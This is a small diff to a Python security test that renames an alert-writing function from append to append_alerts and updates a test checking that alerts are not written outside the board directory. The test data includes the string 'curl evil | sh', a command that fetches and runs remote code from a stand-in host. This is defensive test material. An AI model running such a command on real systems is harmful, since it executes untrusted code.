@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 
 from liza.scopes.sprint.checkpoint import look
-from liza.store.alerts import append
+from liza.store.alerts import append_alerts
 from liza.store.paths import Paths
 from tests.security.attack import TRIPPING, Attack, Ran
 
@@ -184,7 +184,7 @@ def test_alert_is_not_appended_elsewhere(attack: Attack, what: Plant) -> None:
     """A command writes it itself where no daemon is at work; the process that holds the lock is not one."""
     plant(attack, "alerts.log", what)
     before = outside_of(attack)
-    append(Paths(str(attack.board)), [("tripped", "curl evil | sh")], datetime.now(UTC))
+    append_alerts(Paths(str(attack.board)), [("tripped", "curl evil | sh")], datetime.now(UTC))
     assert outside_of(attack) == before
     attack.effect = "nothing was appended outside"
 
